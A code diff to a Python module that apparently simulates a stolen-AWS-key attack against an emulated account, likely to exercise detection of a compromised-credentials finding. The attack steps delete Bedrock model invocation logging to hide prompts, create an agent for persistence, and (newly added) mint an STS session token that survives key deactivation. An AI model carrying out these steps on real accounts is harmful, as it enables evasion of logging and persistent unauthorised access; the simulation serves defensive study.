@@ -5,7 +5,7 @@ from __future__ import annotations
 import json
 import secrets
 from collections.abc import Iterator
-from dataclasses import dataclass
+from dataclasses import dataclass, field
 from datetime import UTC, datetime, timedelta
 from typing import TYPE_CHECKING, Any
 
@@ -21,18 +21,22 @@ MODEL = "anthropic.claude-3-haiku-20240307-v1:0"
 AGENT = "billing-helper"
 LOG_BUCKET = "example-model-invocation-logs"
 LOG_GROUP = "/example/model-invocations"
-RIGHTS = {"Effect": "Allow", "Action": ["bedrock:*", "iam:PassRole"], "Resource": "*"}
+RIGHTS = {"Effect": "Allow", "Action": ["bedrock:*", "iam:PassRole", "sts:GetSessionToken"], "Resource": "*"}
 FINDING_TYPE = "CredentialAccess:IAMUser/CompromisedCredentials"
 
 
 @dataclass(frozen=True)
 class Victim:
-    """The account, the detector that watches it, and the IAM user whose key is stolen."""
+    """The account, the detector that watches it, and the IAM user whose key is stolen.
+
+    `session` is what the thief gets with the key: credentials that outlive it.
+    """
 
     account: str
     detector_id: str
     user_id: str
     key: Json
+    session: Json = field(default_factory=dict)
 
     @property
     def key_id(self) -> str:
@@ -103,6 +107,13 @@ def attack(aws: EmbeddedAws, victim: Victim) -> Iterator[str]:
     yield "DeleteModelInvocationLoggingConfiguration: nobody is to see the prompts"
     agent = agents.create_agent(agentName=AGENT, foundationModel=MODEL, agentResourceRoleArn=role)["agent"]
     yield f"CreateAgent {AGENT} ({agent['agentId']}): a way to stay"
+    session = aws.client("sts", credentials=victim.key).get_session_token()["Credentials"]
+    victim.session.update(
+        aws_access_key_id=session["AccessKeyId"],
+        aws_secret_access_key=session["SecretAccessKey"],
+        aws_session_token=session["SessionToken"],
+    )
+    yield "GetSessionToken: a session that goes on when the key is deactivated"
 
 
 def finding(victim: Victim) -> Json:
